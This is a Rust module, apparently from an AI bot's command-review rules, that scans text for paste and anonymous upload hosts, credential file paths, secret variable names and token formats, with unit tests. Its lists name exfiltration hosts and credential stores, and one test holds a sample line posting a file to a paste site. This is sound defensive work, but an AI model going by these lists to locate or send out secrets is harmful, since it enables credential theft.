//! What review rules look for in words and text: credential files, secret
//! variables and tokens, paste sites and anonymous file hosts, and the
//! host allowlist. All checks are plain string scans (no regex engine), so
//! a rules decision stays in the microseconds.

/// Hosts that take anonymous uploads and hand out public links: paste
/// sites, disposable file hosts, request catchers and tunnels. Subdomains
/// match too.
const PASTE_HOSTS: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "pastie.org",
    "hastebin.com",
    "dpaste.com",
    "dpaste.org",
    "ghostbin.com",
    "ghostbin.co",
    "rentry.co",
    "rentry.org",
    "controlc.com",
    "privatebin.net",
    "paste.rs",
    "ix.io",
    "sprunge.us",
    "termbin.com",
    "clbin.com",
    "0x0.st",
    "transfer.sh",
    "file.io",
    "tmpfiles.org",
    "catbox.moe",
    "gofile.io",
    "anonfiles.com",
    "bashupload.com",
    "temp.sh",
    "oshi.at",
    "keep.sh",
    "filebin.net",
    "wetransfer.com",
    "we.tl",
    "sendspace.com",
    "pixeldrain.com",
    "uguu.se",
    "webhook.site",
    "requestbin.com",
    "pipedream.net",
    "ngrok.io",
    "ngrok-free.app",
    "interact.sh",
    "oast.fun",
    "beeceptor.com",
    "hookbin.com",
];

/// Whether `host` is a paste site or anonymous file host: listed, or
/// named like one (`paste.*`, `*pastebin*`).
pub(crate) fn is_paste_host(host: &str) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    host.starts_with("paste.")
        || host.contains("pastebin")
        || PASTE_HOSTS.iter().any(|p| is_domain_or_sub(&host, p))
}

/// `host` is `domain` or one of its subdomains (no allocation).
fn is_domain_or_sub(host: &str, domain: &str) -> bool {
    host == domain
        || (host.len() > domain.len()
            && host.ends_with(domain)
            && host.as_bytes()[host.len() - domain.len() - 1] == b'.')
}

/// Hosts that may receive data without asking: loopback always, plus
/// the operator's allowlist (`example.com`, or `*.example.com` for the
/// domain and its subdomains).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HostAllowlist {
    patterns: Vec<String>,
}

impl HostAllowlist {
    /// An allowlist of these patterns, written as [`comparable_host`]
    /// writes hosts.
    pub fn new<I, S>(patterns: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        Self {
            patterns: patterns
                .into_iter()
                .map(|p| comparable_host(p.as_ref()))
                .filter(|p| !p.is_empty())
                .collect(),
        }
    }

    /// Whether data may go to `host` without asking.
    pub fn allows(&self, host: &str) -> bool {
        let host = comparable_host(host);
        if matches!(host.as_str(), "localhost" | "::1" | "[::1]" | "0.0.0.0")
            || host.starts_with("127.")
            || host.ends_with(".localhost")
        {
            return true;
        }
        self.patterns.iter().any(|p| match p.strip_prefix("*.") {
            Some(domain) => is_domain_or_sub(&host, domain),
            None => host == *p,
        })
    }

    /// The patterns.
    pub fn patterns(&self) -> &[String] {
        &self.patterns
    }
}

/// A host (or an allowlist pattern) as the allowlist compares them:
/// trimmed, lowercased, without the root's trailing dot (`github.com.`),
/// and an IPv6 address in brackets as URLs write it (`[2001:db8::1]`).
/// Both forms of each are accepted in the allowlist; patterns written
/// bare or with the dot were accepted and never matched (QA).
fn comparable_host(host: &str) -> String {
    let host = host.trim().trim_end_matches('.').to_ascii_lowercase();
    if !host.starts_with('[') && host.parse::<std::net::Ipv6Addr>().is_ok() {
        return format!("[{host}]");
    }
    host
}

/// Checks a host pattern of the allowlist: a host name, an IPv4 address,
/// an IPv6 address (`[::1]` as URLs write it, or bare), or `*.domain`. No
/// scheme, path or port: hosts are compared without their port, so a
/// pattern with one (see [`host_pattern_port`]) could never match.
pub fn valid_host_pattern(pattern: &str) -> bool {
    let host = pattern.strip_prefix("*.").unwrap_or(pattern);
    if let Some(inner) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return host == pattern && inner.parse::<std::net::Ipv6Addr>().is_ok();
    }
    if host.contains(':') {
        return host == pattern && host.parse::<std::net::Ipv6Addr>().is_ok();
    }
    !host.is_empty()
        && host.len() <= 253
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
}

/// `(host, port)` of a pattern written `host:port` (`github.com:443`,
/// `[::1]:8080`); `None` for a pattern without a port (a bare IPv6 address
/// included) and for one that is not `host:digits` (`https://x`).
pub fn host_pattern_port(pattern: &str) -> Option<(&str, &str)> {
    let (host, port) = if pattern.starts_with('[') {
        let end = pattern.find(']')? + 1;
        (&pattern[..end], pattern[end..].strip_prefix(':')?)
    } else {
        let (host, port) = pattern.split_once(':')?;
        if port.contains(':') {
            return None;
        }
        (host, port)
    };
    let digits = !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit());
    (!host.is_empty() && digits).then_some((host, port))
}

/// The hosts of every `scheme://host` URL inside `text`.
pub(crate) fn url_hosts(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let after = &rest[at + 3..];
        let end = after
            .find(|c: char| {
                matches!(
                    c,
                    '/' | '?' | '#' | '"' | '\'' | ' ' | '\n' | '\\' | ')' | '`'
                )
            })
            .unwrap_or(after.len());
        let authority = &after[..end];
        let host_port = authority.rsplit('@').next().unwrap_or(authority);
        let host = if host_port.starts_with('[') {
            host_port
                .split(']')
                .next()
                .map(|h| format!("{h}]"))
                .unwrap_or_default()
        } else {
            host_port.split(':').next().unwrap_or("").to_owned()
        };
        if !host.is_empty() {
            out.push(host.to_ascii_lowercase());
        }
        rest = &after[end..];
    }
    out
}

/// Path fragments of credential stores.
const CREDENTIAL_PATHS: &[(&str, &str)] = &[
    (".ssh/", "SSH keys"),
    (".aws/credentials", "AWS credentials"),
    (".aws/config", "AWS configuration"),
    (".config/gcloud", "Google Cloud credentials"),
    (
        "application_default_credentials.json",
        "Google Cloud credentials",
    ),
    (".azure/", "Azure credentials"),
    (".kube/config", "Kubernetes credentials"),
    (".docker/config.json", "Docker registry credentials"),
    (".gnupg", "GnuPG keys"),
    (".password-store", "a password store"),
    (".config/gh/hosts.yml", "GitHub CLI credentials"),
    (".terraform.d/credentials", "Terraform credentials"),
    ("/etc/shadow", "the system password hashes"),
    ("/etc/gshadow", "the system password hashes"),
    ("/etc/sudoers", "the sudo configuration"),
    ("/environ", "a process environment"),
];

/// File names of credentials.
const CREDENTIAL_NAMES: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".netrc",
    "_netrc",
    ".pgpass",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    ".dockercfg",
    ".htpasswd",
    ".vault-token",
    "master.key",
    "credentials.json",
    "service-account.json",
];

/// Extensions of key and certificate stores.
const CREDENTIAL_EXTENSIONS: &[&str] = &[
    "pem", "key", "p12", "pfx", "jks", "keystore", "ppk", "kdbx", "ovpn",
];

/// What credential a word names, if any (a path, a file name, or a
/// `.env` file; `.env.example` and similar templates are not secrets).
pub(crate) fn credential_in(word: &str) -> Option<&'static str> {
    // every pattern has a '.', '/' or '_': most words are ruled out at once
    if word.len() > 4096 || !word.bytes().any(|b| matches!(b, b'.' | b'/' | b'_')) {
        return None;
    }
    if word == "~/.ssh" || word.ends_with("/.ssh") || word == ".ssh" {
        return Some("SSH keys");
    }
    for (fragment, what) in CREDENTIAL_PATHS {
        if word.contains(fragment) {
            return Some(what);
        }
    }
    let name = word.rsplit('/').next().unwrap_or(word);
    let name = name.trim_matches(|c| matches!(c, '"' | '\'' | ',' | ';' | ')' | '('));
    if CREDENTIAL_NAMES.contains(&name) {
        return Some("a credentials file");
    }
    if name == ".env"
        || (name.starts_with(".env.")
            && !matches!(
                &name[5..],
                "example" | "sample" | "template" | "dist" | "defaults" | "test"
            ))
    {
        return Some("an environment file with secrets");
    }
    if let Some((stem, ext)) = name.rsplit_once('.')
        && !stem.is_empty()
        && CREDENTIAL_EXTENSIONS
            .iter()
            .any(|e| e.eq_ignore_ascii_case(ext))
    {
        return Some("a key or certificate file");
    }
    None
}

thread_local! {
    /// The names of the variables that hold the reviewed bot's own secrets
    /// (its `secrets`, put in every command's environment), for the length
    /// of one review ([`with_secret_names`]): secrets by whatever name, not
    /// only one that looks like a secret's (QA: `echo $MYSEC | rev` ran
    /// unasked, printing the bot's secret reversed to the model). A
    /// thread-local rather than a parameter of every rule: the rules are
    /// plain functions run on one thread without an await, and each of the
    /// dozens that name a variable asks [`is_secret_name`].
    static BOT_SECRET_NAMES: std::cell::RefCell<Vec<String>> =
        const { std::cell::RefCell::new(Vec::new()) };
}

/// Runs `review` with `names` taken as secret names by [`is_secret_name`]
/// (the bot's own secrets), as they were again after it.
pub(crate) fn with_secret_names<T>(names: &[String], review: impl FnOnce() -> T) -> T {
    let before = BOT_SECRET_NAMES.replace(names.to_vec());
    let out = review();
    BOT_SECRET_NAMES.set(before);
    out
}

/// Whether an environment variable name looks like a secret: one of the
/// usual words in it, or a name ending in `_KEY` (`STRIPE_KEY`, a fleet
/// file's `ALICE_KEY`: QA, 2026-12-04, `echo $ALICE_KEY` was not asked
/// about while `echo $GITHUB_TOKEN` was).
pub(crate) fn is_secret_name(name: &str) -> bool {
    if BOT_SECRET_NAMES.with_borrow(|names| names.iter().any(|n| n == name)) {
        return true;
    }
    let upper = name.to_ascii_uppercase();
    upper.ends_with("_KEY")
        || [
            "TOKEN",
            "SECRET",
            "PASSWORD",
            "PASSWD",
            "API_KEY",
            "APIKEY",
            "PRIVATE_KEY",
            "ACCESS_KEY",
            "CREDENTIAL",
        ]
        .iter()
        .any(|s| upper.contains(s))
}

/// The secret-looking variable a word expands (`$NAME`, `${NAME}`).
pub(crate) fn secret_variable_in(word: &str) -> Option<&str> {
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        let after = &rest[at + 1..];
        let after = after.strip_prefix('{').unwrap_or(after);
        let end = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(after.len());
        let name = &after[..end];
        if !name.is_empty() && is_secret_name(name) {
            return Some(name);
        }
        rest = &after[end..];
    }
    None
}

/// What kind of credential material `text` contains, if any: a private
/// key block or a well-known token format.
pub(crate) fn secret_material_in(text: &str) -> Option<&'static str> {
    if text.contains("-----BEGIN") && text.contains("PRIVATE KEY-----") {
        return Some("a private key");
    }
    const PREFIXES: &[(&str, usize, &str)] = &[
        ("AKIA", 16, "an AWS access key"),
        ("ghp_", 30, "a GitHub token"),
        ("gho_", 30, "a GitHub token"),
        ("ghs_", 30, "a GitHub token"),
        ("github_pat_", 30, "a GitHub token"),
        ("glpat-", 20, "a GitLab token"),
        ("xoxb-", 20, "a Slack token"),
        ("xoxp-", 20, "a Slack token"),
        ("sk-", 32, "an API key"),
    ];
    for (prefix, min_len, what) in PREFIXES {
        let mut rest = text;
        while let Some(at) = rest.find(prefix) {
            let boundary = at == 0 || !rest.as_bytes()[at - 1].is_ascii_alphanumeric();
            let tail = &rest[at + prefix.len()..];
            let run = tail
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
                .count();
            if boundary && run >= *min_len {
                return Some(what);
            }
            rest = tail;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    #[test]
    fn paste_hosts_and_allowlist() {
        for h in [
            "pastebin.com",
            "PASTE.example",
            "x.transfer.sh",
            "0x0.st",
            "my-pastebin.io",
        ] {
            assert!(is_paste_host(h), "{h}");
        }
        for h in ["github.com", "transfer.sh.evil.io", "example.com"] {
            assert!(!is_paste_host(h), "{h}");
        }
        let allow = HostAllowlist::new(["github.com", "*.corp.example"]);
        for h in [
            "github.com",
            "localhost",
            "127.0.0.1",
            "corp.example",
            "a.b.corp.example",
        ] {
            assert!(allow.allows(h), "{h}");
        }
        for h in ["api.github.com", "corp.example.evil", "evil.io"] {
            assert!(!allow.allows(h), "{h}");
        }
        // a pattern with the root's dot, or an IPv6 address written bare
        // (both accepted by the config), matches the host as URLs give it
        // (QA: neither ever matched)
        let allow = HostAllowlist::new(["GitHub.com.", "2001:db8::1", "[2001:db8::2]"]);
        for h in [
            "github.com",
            "github.com.",
            "[2001:db8::1]",
            "[2001:db8::2]",
            "2001:db8::2",
        ] {
            assert!(allow.allows(h), "{h}");
        }
        assert!(!allow.allows("[2001:db8::3]"));
        assert!(valid_host_pattern("*.corp.example"));
        assert!(!valid_host_pattern("https://x"));
        assert!(!valid_host_pattern(""));
        // ports are never compared: a pattern with one could not match
        for p in ["[::1]", "[2001:db8::1]", "2001:db8::1", "10.0.0.1"] {
            assert!(valid_host_pattern(p), "{p}");
            assert_eq!(host_pattern_port(p), None, "{p}");
        }
        for (p, host, port) in [
            ("github.com:443", "github.com", "443"),
            ("*.corp.example:8443", "*.corp.example", "8443"),
            ("[::1]:8080", "[::1]", "8080"),
            ("10.0.0.1:22", "10.0.0.1", "22"),
        ] {
            assert!(!valid_host_pattern(p), "{p}");
            assert_eq!(host_pattern_port(p), Some((host, port)), "{p}");
        }
        for p in ["[::1", "[nothost]", "a[b]", "*.[::1]", "https://x"] {
            assert!(!valid_host_pattern(p), "{p}");
        }
        assert_eq!(host_pattern_port("https://x"), None);
    }

    #[test]
    fn url_hosts_inside_text() {
        assert_eq!(
            url_hosts(
                r#"requests.post("https://User@Paste.ee:443/x", data=open('a').read()) ftp://[::1]/f"#
            ),
            vec!["paste.ee", "[::1]"]
        );
    }

    #[test]
    fn credentials() {
        for (w, what) in [
            ("~/.ssh/id_rsa", "SSH keys"),
            ("keys/id_ed25519", "a credentials file"),
            (".env", "an environment file with secrets"),
            ("app/.env.production", "an environment file with secrets"),
            ("certs/server.pem", "a key or certificate file"),
            ("/etc/shadow", "the system password hashes"),
            ("/proc/self/environ", "a process environment"),
            (".aws/credentials", "AWS credentials"),
        ] {
            assert_eq!(credential_in(w), Some(what), "{w}");
        }
        for w in [
            ".env.example",
            "id_rsa.pub",
            "README.md",
            "src/keys.rs",
            "environment.yml",
            ".pem",
        ] {
            assert_eq!(credential_in(w), None, "{w}");
        }
        assert_eq!(
            secret_variable_in("x${GITHUB_TOKEN}y"),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(secret_variable_in("$HOME/$USER"), None);
        assert_eq!(
            secret_material_in("key = AKIAABCDEFGHIJKLMNOP"),
            Some("an AWS access key")
        );
        assert_eq!(
            secret_material_in("-----BEGIN OPENSSH PRIVATE KEY-----\nabc"),
            Some("a private key")
        );
        assert_eq!(secret_material_in("task-sk-1 and ask-me"), None);
    }
}
